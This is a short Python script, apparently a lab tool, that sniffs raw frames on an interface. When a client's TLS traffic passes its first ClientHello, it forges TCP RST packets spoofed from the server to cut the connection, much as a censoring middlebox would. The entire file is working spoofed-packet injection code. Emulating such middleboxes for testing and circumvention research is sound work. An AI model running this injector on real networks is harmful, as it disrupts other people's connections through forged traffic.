"""A device beside the line: it answers a client's second flight with RST in the server's name, from its own MAC.

python lab_inject.py LINK PORT TTL
"""

from __future__ import annotations

import socket
import struct
import sys

MAC = bytes.fromhex("02ee0000ee02")


def checksum(data: bytes) -> int:
    """Of IP and TCP."""
    data += b"\x00" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return int(~total & 0xFFFF)


def reset_for(frame: bytes, port: int, ttl: int) -> bytes | None:
    """The RST that answers a frame, where the frame begins a second flight."""
    if frame[12:14] != b"\x08\x00" or frame[23] != 6:
        return None
    at = 14 + (frame[14] & 15) * 4
    source, target, _, acknowledged = struct.unpack_from(">HHII", frame, at)
    payload = frame[at + (frame[at + 12] >> 4) * 4 : 14 + struct.unpack_from(">H", frame, 16)[0]]
    if (
        target != port
        or len(payload) < 6
        or payload[0] not in {0x14, 0x16, 0x17}
        or payload[5] == 1 == payload[0] - 0x15
    ):
        return None
    client, server = frame[26:30], frame[30:34]
    tcp = struct.pack(">HHIIBBHHH", target, source, acknowledged, 0, 80, 4, 0, 0, 0)
    total = checksum(server + client + struct.pack(">BBH", 0, 6, 20) + tcp)
    tcp = tcp[:16] + struct.pack(">H", total) + tcp[18:]
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 7, 0, ttl, 6, 0) + server + client
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    return frame[6:12] + MAC + b"\x08\x00" + ip + tcp


def main(link: str, port: int, ttl: int) -> None:
    """Watch and answer."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003)) as wire:
        wire.bind((link, 0))
        print("ready", flush=True)
        while True:
            frame = wire.recv(65536)
            answer = reset_for(frame, port, ttl) if len(frame) > 54 else None
            if answer:
                wire.send(answer)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
